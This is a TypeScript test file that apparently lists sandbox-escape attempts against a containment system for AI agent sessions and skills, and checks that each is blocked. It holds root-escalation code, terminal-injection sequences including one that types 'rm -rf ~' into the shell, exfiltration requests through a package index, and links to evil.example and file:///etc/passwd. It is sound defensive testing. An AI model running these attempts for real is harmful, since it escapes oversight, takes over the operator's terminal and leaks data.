/**
 * Attempts from an agent's session, which sees all of /usr and may open unix sockets: the attempts
 * of skills once more, and those that need what only a session has.
 */
import * as fs from 'node:fs';
import { join } from 'node:path';
import { parseAdvisory } from '../../../../skills-index/run/indexes/advisory.ts';
import {
  type IndexAnswer,
  judgeNpm,
  judgePython,
  type PackageRules,
  parseIndexRequest,
} from '../../../../skills-index/run/indexes/npm-answer.ts';
import { whyNotEgress } from '../../../../skills-index/run/plan/plan-surroundings.ts';
import { printable } from '../../../../skills-index/skill/text/shown-text.ts';
import { safe } from '../../../terminal/output.ts';
import { ScreenFilter } from '../../../terminal/screen-filter.ts';
import {
  type Attempt,
  isReceived,
  type Outcome,
  type Proof,
  printsSecret,
  printsThrough,
  type RunnerAttempt,
} from '../row.ts';
import { namespaceRows, networkRows } from './network.ts';
import { filesystemRows, leavesBits, processRows } from './processes.ts';

// Privileges, and the operator's terminal.

export const privilegeRows: readonly Attempt[] = [
  {
    name: 'become root',
    wants: 'root',
    as: 'root',
    proof: printsThrough,
    code: 'os.setuid(0); won()',
  },
  {
    name: 'become another user',
    wants: 'that user’s files',
    as: 'root',
    proof: printsThrough,
    code: 'other = 1001 if os.getuid() == 1000 else 1000; os.setresuid(other, other, other); won()',
  },
  {
    name: 'join another group',
    wants: 'that group’s files',
    as: 'root',
    proof: printsThrough,
    code: 'os.setgroups([0]); won()',
  },
  {
    name: 'start a setuid program of root',
    wants: 'root',
    proof: printsThrough,
    program: 'sh',
    code: '[ "$("$AT_mount/id-as-root" -u)" = 0 ] && echo through',
  },
  {
    name: 'give a file to root',
    wants: 'a file that root trusts',
    as: 'root',
    proof: printsThrough,
    code: `p = mount + '/given'; open(p, 'w').close(); os.chown(p, 0, 0); won(os.getuid() == 0 or os.stat(p).st_uid == 0)`,
  },
  {
    name: 'give a file capabilities',
    wants: 'a program with root’s rights',
    as: 'root',
    proof: printsThrough,
    code: `p = mount + '/capable'; open(p, 'w').close(); os.setxattr(p, 'security.capability', struct.pack('<5I', 0x2000001, 1 << 21, 0, 0, 0)); won()`,
  },
  {
    name: 'keep any privilege',
    wants: 'a step towards root',
    proof: printsThrough,
    code: `s = dict(l.split(':', 1) for l in open('/proc/self/status')); now = [s[k].strip() for k in ('NoNewPrivs', 'CapBnd', 'Seccomp')]; print(now)
won(now != ['1', '0000000000000000', '2'])`,
  },
  {
    name: 'keep a setuid bit on a file that it writes',
    wants: 'its own program as another user',
    proof: leavesBits('tool', 0o6000),
    code: `p = mount + '/tool'; open(p, 'w').write('#!/bin/sh'); os.chmod(p, 0o6755); print('partly')`,
  },
  {
    name: 'type into the operator’s terminal',
    wants: 'a command in the operator’s shell',
    as: 'root',
    proof: printsThrough,
    code: `master, slave = os.openpty()
if os.fork() == 0:
    os.setsid(); fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
    try: fcntl.ioctl(slave, termios.TIOCSTI, b'x'); won()
    except OSError as e: print('OSError', e, flush=True)
    os._exit(0)
os.wait()`,
  },
  {
    name: 'paste into the operator’s console',
    wants: 'a command in the operator’s shell',
    as: 'root',
    proof: printsThrough,
    // TIOCLINUX with a subcode that does not exist.
    code: `master, slave = os.openpty()
try: fcntl.ioctl(slave, 0x541c, b'\\xff'); won()
except OSError as e:
    print('OSError', e); won(e.errno not in (errno.EPERM,))`,
  },
  {
    name: 'open the operator’s terminal',
    wants: 'the operator’s keystrokes',
    proof: printsThrough,
    // Without a terminal of the runner, the attempt proves nothing.
    code: `if terminal == 'no': print('untested: the runner has no terminal')
else: os.close(os.open('/dev/tty', os.O_RDWR)); won()`,
  },
];

// Only runs of skills have a read-only folder, a folder of the skill and secrets of their own, and
// only their changes reach the host.
const isOfSkills = /library|skill|AT_mount|CRM_TOKEN|_proxy|\/tool'|\/dev\/tty/;

function inSession(rows: readonly Attempt[]): Attempt[] {
  return rows
    .filter(
      ({ code, ends, needs }) => !isOfSkills.test(code) && ends !== true && needs === undefined,
    )
    .map((row) => ({ ...row, name: `${row.name}, in a session`, in: 'session', twin: row.name }));
}

const typedAtVictim: Proof = ({ token, world }) => {
  const typed = join(world.folder, 'home/typed');
  return fs.existsSync(typed) && fs.readFileSync(typed, 'utf8').includes(token);
};

export const sessionFileRows: readonly Attempt[] = inSession(filesystemRows);
export const sessionNamespaceRows: readonly Attempt[] = inSession(namespaceRows);
export const sessionProcessRows: readonly Attempt[] = inSession(processRows);

export const sessionNetworkRows: readonly Attempt[] = [
  ...inSession(networkRows),
  {
    name: 'take an open file of the host over a unix socket, in a session',
    wants: 'a file of the host',
    in: 'session',
    proof: printsSecret,
    code: `s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect('\\0' + filesName)
_, files, _, _ = socket.recv_fds(s, 1, 1); print(os.pread(files[0], 99, 0))`,
  },
];

/** Programs and folders of the system, and terminals. */
export const sessionPrivilegeRows: readonly Attempt[] = [
  ...inSession(privilegeRows),
  {
    name: 'get root’s rights by the setuid programs of the system, in a session',
    wants: 'root',
    in: 'session',
    proof: printsThrough,
    code: `for folder in ('/usr/bin', '/usr/sbin', '/usr/lib', '/usr/libexec', '/usr/local/bin'):
    for above, _, names in os.walk(folder):
        for name in names:
            path = os.path.join(above, name); found = os.lstat(path)
            if not stat.S_ISREG(found.st_mode) or not found.st_mode & 0o4000: continue
            try: p = subprocess.Popen([path], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
            except OSError: continue
            for _ in range(20):
                ids = [l.split() for l in open('/proc/%d/status' % p.pid) if l.startswith('Uid')] if os.path.exists('/proc/%d' % p.pid) else []
                won(os.getuid() != 0 and any(one[2] == '0' for one in ids))
                time.sleep(0.005)
            p.kill(); p.wait()`,
    seconds: 10,
  },
  {
    name: 'change a program of the system, in a session',
    wants: 'changed programs for every user',
    in: 'session',
    as: 'root',
    proof: printsThrough,
    // Opens the file for writing, and writes nothing.
    code: `os.close(os.open('/usr/bin/wc', os.O_WRONLY)); won()`,
  },
  {
    name: 'change the settings of the linker for every program, in a session',
    wants: 'its own library in every program',
    in: 'session',
    as: 'root',
    proof: printsThrough,
    code: `os.close(os.open('/etc/ld.so.cache', os.O_WRONLY)); won()`,
  },
  ...(['session', undefined] as const).map(
    (place): Attempt => ({
      name: `type at a pseudo-terminal of the host${place === undefined ? '' : ', in a session'}`,
      wants: 'a command in the shell of a person',
      ...(place === undefined ? {} : { in: place }),
      proof: typedAtVictim,
      code: `fd = os.open(victimTerminal, os.O_RDWR | os.O_NOCTTY); os.write(fd, token.encode() + b'\\n'); time.sleep(0.3)`,
    }),
  ),
];

const index = 'http://npm.index.skillgate.internal';

// The bare twin sends the same bytes to a proxy without rules.
const asks: readonly (readonly [name: string, code: string])[] = [
  ['send data in a query to', `get('${index}/lib?d=' + token)`],
  ['send data in a path below a package to', `get('${index}/lib/' + token)`],
  ['send data in a path with dots to', `get('${index}/lib/%2e%2e/-/' + token)`],
  ['search by words at', `get('${index}/-/v1/search?text=' + token)`],
  ['send data in the body of a question to', `get('${index}/lib', body=token)`],
  ['publish a package at', `get('${index}/lib', method='PUT', body=token)`],
  [
    'send data in a method to',
    `get('${index}/lib', method='GET' + token.upper())
get('${index}/lib', method=token)`,
  ],
  [
    'send data in a header to',
    `get('${index}/lib', headers='X-Data: %s\\nCookie: %s\\n' % (token, token))`,
  ],
  [
    'send data as user of',
    `get('http://%s@npm.index.skillgate.internal/lib' % token, 'npm.index.skillgate.internal')`,
  ],
  ['reach another port beside', `get('${index}:22/' + token)`],
  [
    'reach another host by the name of',
    `get('http://elsewhere.example/' + token, 'npm.index.skillgate.internal')`,
  ],
  [
    'reach an index that nobody granted, beside',
    `get('http://python.index.skillgate.internal/simple/%s/' % token)`,
  ],
  [
    'open a tunnel to',
    `send('CONNECT npm.index.skillgate.internal:80 HTTP/1.1\\nHost: npm.index.skillgate.internal:80\\n\\n', 'GET /-/%s HTTP/1.1\\nHost: npm.index.skillgate.internal\\n\\n' % token)`,
  ],
  [
    'switch to another protocol at',
    `get('${index}/lib', headers='Connection: Upgrade\\nUpgrade: websocket\\nSec-WebSocket-Key: %s\\n' % token)`,
  ],
];

/** Ways out by the package index of a session. */
export const sessionIndexRows: readonly Attempt[] = asks.map(([act, code]) => ({
  name: `${act} the index of a session`,
  wants: 'a way out by the index',
  in: 'session',
  proof: isReceived,
  code,
}));

// What a session has besides a skill's sandbox: the person's terminal, and package indexes.

/** Sequences that terminals obey, each with the form in which a terminal would see it. */
const sequences: readonly (readonly [name: string, drawn: string, obeyed: RegExp])[] = [
  [
    'have the terminal type its title into the shell',
    '\x1b]2;\nrm -rf ~\n\x07\x1b[21t',
    /\x1b\[21t/,
  ],
  [
    'have the terminal type its title, in a sequence of eight bits',
    '\x1b]2;x\x07\x9b21t',
    /\x9b21t/,
  ],
  ['write the person’s clipboard', '\x1b]52;c;cm0gLXJmIH4K\x07', /\x1b\]52;c;cm/],
  ['read the person’s clipboard', '\x1b]52;c;?\x1b\\', /\x1b\]52;c;\?/],
  ['define a key as a command', '\x1bP0;1|17/6c730a\x1b\\', /\x1bP[\d;]*\|/],
  [
    'write the clipboard through a multiplexer',
    '\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\',
    /\x1b\]52|\x1bPtmux/,
  ],
  ['read a file by the terminal’s graphics', '\x1b_Gt=f;L2V0Yy9wYXNzd2Q=\x1b\\', /\x1b_G/],
  ['write a file by the terminal', '\x1b]1337;File=name=eA==:eA==\x07', /\x1b\]1337;File/],
  ['read the screen above the session', '\x1b[1;0;1;1;9;9*y', /\x1b\[[\d;]*\*y/],
  ['print the screen', '\x1b[5i', /\x1b\[5i/],
  ['have the terminal type its stored answer', '\x05', /\x05/],
  ['show a link as another address', '\x1b]8;;https://evil.example/\x07', /\x1b\]8;;h/],
  ['leave the terminal with reports of the mouse', '\x1b[?1003h', /\x1b\[\?1003h(?!.*\?1003l)/s],
  ['leave the terminal without an echo of lines', '\x1b[?1049h', /\x1b\[\?1049h(?!.*\?1049l)/s],
];

/** Escapes by the person's terminal, whole and in single signs. */
export const terminalRows: readonly RunnerAttempt[] = sequences.map(([act, drawn, obeyed]) => ({
  name: `${act}, in a session with a terminal`,
  wants: 'commands, data or the state of the person’s terminal',
  bare: async () => obeyed.test(drawn),
  attempt: async () => {
    // Whole, and in single signs.
    const shown = [[drawn], [...drawn]].map((pieces) => {
      const filter = new ScreenFilter();
      return `${pieces.map((piece) => filter.push(piece)).join('')}${filter.reset()}`;
    });
    return judged(!shown.some((text) => obeyed.test(text)), 'the terminal obeys nothing of it');
  },
}));

const drawnAll = sequences.map(([, drawn]) => drawn).join('');
const isDrawing = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

/** What a person reads on a plain terminal: the output of a run, and Skillgate's own words. */
export const shownRows: readonly RunnerAttempt[] = (
  [
    ['the output of a run', printable],
    ['words in a question', (text) => safe`${text}`.text],
  ] satisfies readonly (readonly [string, (text: string) => string])[]
).map(([place, show]) => ({
  name: `have the terminal obey ${place}`,
  wants: 'commands, data or the state of the person’s terminal',
  bare: async () => isDrawing.test(drawnAll),
  attempt: async () => judged(!isDrawing.test(show(drawnAll)), 'the terminal gets no control sign'),
}));

const now = new Date('2026-06-10T00:00:00Z');
const old = '2020-01-01T00:00:00Z';
const advisory = JSON.stringify({
  id: 'MAL-1',
  affected: [{ package: { ecosystem: 'npm', name: 'lib' }, versions: ['1.0.1'] }],
});
const rules: PackageRules = {
  name: 'lib',
  minimumAgeDays: 7,
  now,
  malicious: parseAdvisory(advisory, 'MAL-1.json'),
  placeOf: (url) => (url.hostname === 'index.example' ? { shown: url.href, url } : undefined),
};

const tarball = (version: string, host = 'index.example') =>
  `https://${host}/lib/-/lib-${version}.tgz`;

/** What an index says about a package, and how a session's runner judges it. */
interface Said {
  readonly name: string;
  readonly document: object;
  readonly judge: (document: object) => IndexAnswer | undefined;
}

function ofNpm(name: string, version: string, uploaded?: string, url = tarball(version)): Said {
  const versions = { [version]: { dist: { tarball: url } } };
  const time = uploaded === undefined ? {} : { [version]: uploaded };
  const judge = (document: object) => judgeNpm(document, rules);
  return { name, document: { name: 'lib', versions, time }, judge };
}

function ofPython(name: string, filename: string, url: string): Said {
  const page = 'https://index.example/simple/lib/';
  const document = { name: 'lib', files: [{ filename, url, 'upload-time': old }] };
  return { name, document, judge: (one) => judgePython(JSON.stringify(one), page, rules) };
}

const wheel = 'lib-1.0-py3-none-any.whl';
const packages: readonly Said[] = [
  ofNpm('a version that an advisory names', '1.0.1', old),
  ofNpm('a version of yesterday', '2.0.0', '2026-06-09T00:00:00Z'),
  ofNpm('a version without a date', '2.0.0'),
  ofNpm('a version with a date in words', '2.0.0', 'long ago'),
  ofNpm('a file of another host', '1.0.0', old, tarball('1.0.0', 'evil.example')),
  ofNpm('a file of the host itself', '1.0.0', old, 'file:///etc/passwd'),
  ofPython('an archive that runs code', 'lib-1.0.tar.gz', 'lib-1.0.tar.gz'),
  ofPython('a file under another file’s name', wheel, 'other-1.0-py3-none-any.whl'),
];

/** A naive proxy passes on whatever its index lists. */
function listsNaively(document: object): boolean {
  return /"(?:tarball|url)":"[^"]+"/.test(JSON.stringify(document));
}

const outs: readonly (readonly [name: string, path: string])[] = [
  ['a search', '/-/v1/search'],
  ['an account', '/-/user/org.couchdb.user:secret'],
  ['a report of its packages', '/-/npm/v1/security/advisories/bulk'],
  ['a path that leaves the index', '/lib/-/../../admin'],
  ['a revision', '/lib/-rev/1'],
];

/** Escapes by a package index of a session. A naive proxy passes on whatever its host answers. */
export const indexRows: readonly RunnerAttempt[] = [
  ...packages.map(
    ({ document, judge, name }): RunnerAttempt => ({
      name: `fetch from the session’s index ${name}`,
      wants: 'code that nobody had time to look at',
      bare: async () => listsNaively(document),
      attempt: async () => {
        const files = [...(judge(document)?.files.values() ?? [])];
        const isHeld = !files.some(({ kind }) => kind === 'file');
        return judged(isHeld, 'the session’s runner passes on no such file');
      },
    }),
  ),
  ...outs.map(
    ([what, path]): RunnerAttempt => ({
      name: `send to the session’s index ${what}`,
      wants: 'a way out by the index',
      bare: async () => new URL(path, 'https://index.example').host === 'index.example',
      attempt: async () =>
        judged(parseIndexRequest('npm', '', path) === undefined, 'no request of the protocol'),
    }),
  ),
  ...['https://*/*', 'http://*.skillgate.internal/*', 'http://npm.index.skillgate.internal/*'].map(
    (url): RunnerAttempt => ({
      name: `grant a session ${url}`,
      wants: 'other ports of the machine with the model or the index',
      bare: async () => URL.canParse(url.replace('*.', '').replace('//*', '//any.example')),
      attempt: async () => judged(whyNotEgress(url) !== undefined, whyNotEgress(url) ?? ''),
    }),
  ),
];

function judged(isBlocked: boolean, detail: string): Outcome {
  return isBlocked
    ? { result: 'blocked', detail }
    : { result: 'through', detail: 'the attempt got through' };
}
